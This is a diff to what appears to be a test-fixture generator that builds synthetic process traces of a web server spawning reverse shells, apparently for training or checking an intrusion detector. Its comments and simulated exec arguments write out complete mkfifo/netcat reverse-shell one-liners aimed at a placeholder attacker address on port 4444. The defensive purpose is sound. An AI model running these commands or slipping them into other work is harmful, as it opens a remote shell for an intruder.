@@ -275,8 +275,9 @@ def rce_socat():
 def rce_mkfifo():
     t = Trace("rce-mkfifo-nc")
     t.comment("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f")
-    t.comment("evidence: nc holds the connection and writes the FIFO; cat copies the FIFO into the")
-    t.comment("shell's stdin pipe, so the shell reads what the peer sends (pipe and FIFO inodes link them)")
+    t.comment("evidence on fds 0-2 (cat opens the FIFO by name on fd 3, which is not visible): the shell")
+    t.comment("reads a pipe and writes into nc's stdin pipe; nc holds the connection and writes what the peer")
+    t.comment("sends into the FIFO: a loop. Pipe inodes 8802/8803 link the processes.")
     web_server(t)
     t.fork(102, 101)
     t.exec(102, 101, "/bin/sh", ["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"],
@@ -288,12 +289,29 @@ def rce_mkfifo():
     FIFO, P1, P2 = fd("fifo", 8801, "/tmp/f"), fd("pipe", 8802), fd("pipe", 8803)
     for pid in (105, 106, 107):
         t.fork(pid, 102)
-    t.exec(105, 102, "/usr/bin/cat", ["cat", "/tmp/f"], WEB, stdio=[FIFO, P1, DEVNULL])
+    t.exec(105, 102, "/usr/bin/cat", ["cat", "/tmp/f"], WEB, stdio=[DEVNULL, P1, DEVNULL])
     t.exec(106, 102, "/bin/sh", ["/bin/sh", "-i"], WEB, binary="/usr/bin/dash", stdio=[P1, P2, P2])
     t.exec(107, 102, "/usr/bin/nc", ["nc", "203.0.113.9", "4444"], WEB, binary="/usr/bin/nc.openbsd",
            stdio=[P2, FIFO, DEVNULL])
     t.connect(107, 7001, LOCAL, ATTACKER)
     commands(t, 106, 110, [P1, P2, P2], [["id"], ["uname", "-a"]])
+    t.write()
+
+    t = Trace("rce-mkfifo-nc-redirect")
+    t.comment("rm /tmp/f; mkfifo /tmp/f; nc 203.0.113.9 4444 < /tmp/f | /bin/sh -i > /tmp/f 2>&1")
+    t.comment("evidence: nc holds the connection and its stdout pipe (8902) is the shell's stdin")
+    web_server(t)
+    t.fork(102, 101)
+    t.exec(102, 101, "/bin/sh", ["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;nc 203.0.113.9 4444 </tmp/f|/bin/sh -i >/tmp/f 2>&1"],
+           WEB, binary="/usr/bin/dash", stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
+    FIFO, P = fd("fifo", 8901, "/tmp/f"), fd("pipe", 8902)
+    for pid in (105, 106):
+        t.fork(pid, 102)
+    t.exec(106, 102, "/bin/sh", ["/bin/sh", "-i"], WEB, binary="/usr/bin/dash", stdio=[P, FIFO, FIFO])
+    t.exec(105, 102, "/usr/bin/nc", ["nc", "203.0.113.9", "4444"], WEB, binary="/usr/bin/nc.traditional",
+           stdio=[FIFO, P, DEVNULL])
+    t.connect(105, 7001, LOCAL, ATTACKER)
+    commands(t, 106, 110, [P, FIFO, FIFO], [["id"], ["ls"]])
     t.write()
 
 
